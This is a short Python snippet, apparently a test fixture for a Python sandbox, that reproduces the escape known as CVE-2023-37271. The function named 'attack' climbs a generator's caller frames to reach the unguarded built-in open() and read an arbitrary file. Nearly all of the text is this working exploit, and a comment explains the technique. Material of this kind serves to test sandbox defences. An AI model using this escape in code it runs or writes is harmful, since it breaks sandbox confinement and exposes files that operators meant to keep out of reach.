# A running generator looks up the stack of its callers, to a frame that has the real built-in functions.
# after: read
# source: CVE-2023-37271 (GHSA-wqc8-x2pr-7jqh)
def attack(path, **_):
    gen = (gen.gi_frame.f_back for _ in [1])
    for frame in gen:
        while frame:
            found = frame.f_builtins
            if "guard:read" not in found:
                return {"text": found["open"](path).read()}
            frame = frame.f_back
